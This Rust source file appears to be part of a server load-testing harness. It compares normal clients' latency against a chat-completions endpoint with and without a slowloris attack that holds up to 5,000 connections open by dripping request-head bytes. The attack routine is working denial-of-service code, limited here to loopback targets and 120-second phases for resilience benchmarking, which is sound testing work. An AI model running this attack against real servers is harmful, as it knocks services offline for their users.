//! `slowloris`: the latency of normal clients at a fixed rate, first alone, then while many
//! connections hold the server by sending a request head one byte at a time.
//!
//! Bounded on purpose: loopback targets only, at most 5,000 attack connections and 120 s per
//! phase. An attack connection the server closes (its header timeout) is opened again, so the
//! count held stays at `--connections`; the reopen count is printed.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use anyhow::bail;
use clap::Args;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use crate::load::{self, LoadConfig, Target};
use crate::BodyArgs;

const MAX_CONNECTIONS: usize = 5_000;
const MAX_PHASE: Duration = Duration::from_secs(120);

#[derive(Args, Debug)]
pub struct SlowlorisArgs {
    /// The normal clients' target (http://127.0.0.1:…/v1/chat/completions).
    #[arg(long)]
    pub url: String,
    /// Extra request header `Name: value` for the normal clients (repeatable).
    #[arg(long = "header", short = 'H')]
    pub headers: Vec<String>,
    #[command(flatten)]
    pub body: BodyArgs,
    /// Normal clients' fixed rate, requests/s.
    #[arg(long, default_value_t = 200.0)]
    pub rate: f64,
    /// Normal clients' workers (each a keep-alive connection).
    #[arg(long, default_value_t = 32)]
    pub concurrency: usize,
    /// Length of each measured phase (without, then with the attack).
    #[arg(long, default_value = "20s", value_parser = crate::parse_duration)]
    pub duration: Duration,
    /// Attack connections held open.
    #[arg(long, default_value_t = 1_000)]
    pub connections: usize,
    /// Pause between two bytes of an attack connection's request head.
    #[arg(long, default_value = "1s", value_parser = crate::parse_duration)]
    pub byte_interval: Duration,
    /// Process to charge CPU to (the data plane).
    #[arg(long)]
    pub pid: Option<u32>,
}

/// What the attack did.
#[derive(Default)]
struct AttackStats {
    /// Connections open right now.
    open: AtomicU64,
    /// Connections the server closed (each was opened again).
    closed_by_server: AtomicU64,
    /// Connects that failed.
    connect_errors: AtomicU64,
}

pub async fn run(args: SlowlorisArgs) -> anyhow::Result<()> {
    if args.connections > MAX_CONNECTIONS {
        bail!("at most {MAX_CONNECTIONS} attack connections");
    }
    if args.duration > MAX_PHASE || args.duration.is_zero() {
        bail!(
            "each phase lasts between 1 ms and {} s",
            MAX_PHASE.as_secs()
        );
    }
    let target = Target::parse(&args.url).await?;
    if !target.addr.ip().is_loopback() {
        bail!(
            "slowloris only runs against a loopback address, not {}",
            target.addr
        );
    }
    let config = LoadConfig {
        url: args.url.clone(),
        headers: args.headers.clone(),
        method: None,
        body: args.body.load()?,
        concurrency: args.concurrency,
        duration: args.duration,
        rate: Some(args.rate),
        warmup: Duration::from_secs(2),
        timeout: Duration::from_secs(30),
        pid: args.pid,
    };

    let baseline = load::run(&config).await?;
    println!("without attack: {}", baseline.line());
    baseline.report_failures();

    let stats = Arc::new(AttackStats::default());
    let stop = Arc::new(AtomicBool::new(false));
    let mut attackers = Vec::with_capacity(args.connections);
    for i in 0..args.connections {
        attackers.push(tokio::spawn(attacker(
            target.addr,
            args.byte_interval,
            stats.clone(),
            stop.clone(),
        )));
        // Ramp up without a connect storm.
        if i % 100 == 99 {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
    // Let every attacker connect and start dripping.
    for _ in 0..100 {
        if stats.open.load(Ordering::Relaxed) >= args.connections as u64 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let open_at_start = stats.open.load(Ordering::Relaxed);
    let attacked = load::run(&config).await?;
    let open_at_end = stats.open.load(Ordering::Relaxed);
    stop.store(true, Ordering::Relaxed);
    for a in attackers {
        a.abort();
    }
    println!("under attack:   {}", attacked.line());
    attacked.report_failures();
    println!(
        "attack: {} connections asked, {open_at_start} open when the measurement began, \
         {open_at_end} at its end, {} closed by the server (and reopened), {} connect errors",
        args.connections,
        stats.closed_by_server.load(Ordering::Relaxed),
        stats.connect_errors.load(Ordering::Relaxed),
    );
    if let (Some(a), Some(b)) = (attacked.p99_ms, baseline.p99_ms) {
        println!(
            "p50 {:.3} -> {:.3} ms, p99 {b:.3} -> {a:.3} ms ({:.2}x)",
            baseline.p50_ms.unwrap_or(f64::NAN),
            attacked.p50_ms.unwrap_or(f64::NAN),
            a / b
        );
    }
    Ok(())
}

/// Holds one connection sending a request head a byte at a time, reopening it when the server
/// closes it, until `stop`.
async fn attacker(
    addr: SocketAddr,
    interval: Duration,
    stats: Arc<AttackStats>,
    stop: Arc<AtomicBool>,
) {
    const HEAD: &[u8] = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nX-Slow: \
        aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    while !stop.load(Ordering::Relaxed) {
        let mut s = match TcpStream::connect(addr).await {
            Ok(s) => s,
            Err(_) => {
                stats.connect_errors.fetch_add(1, Ordering::Relaxed);
                tokio::time::sleep(interval).await;
                continue;
            }
        };
        stats.open.fetch_add(1, Ordering::Relaxed);
        // Past the end of HEAD, keep adding header bytes: the head is never finished.
        let mut i = 0usize;
        loop {
            if stop.load(Ordering::Relaxed) {
                return;
            }
            let byte = HEAD.get(i).copied().unwrap_or(b'a');
            if s.write_all(&[byte]).await.is_err() {
                break;
            }
            i += 1;
            tokio::time::sleep(interval).await;
        }
        stats.open.fetch_sub(1, Ordering::Relaxed);
        stats.closed_by_server.fetch_add(1, Ordering::Relaxed);
    }
}
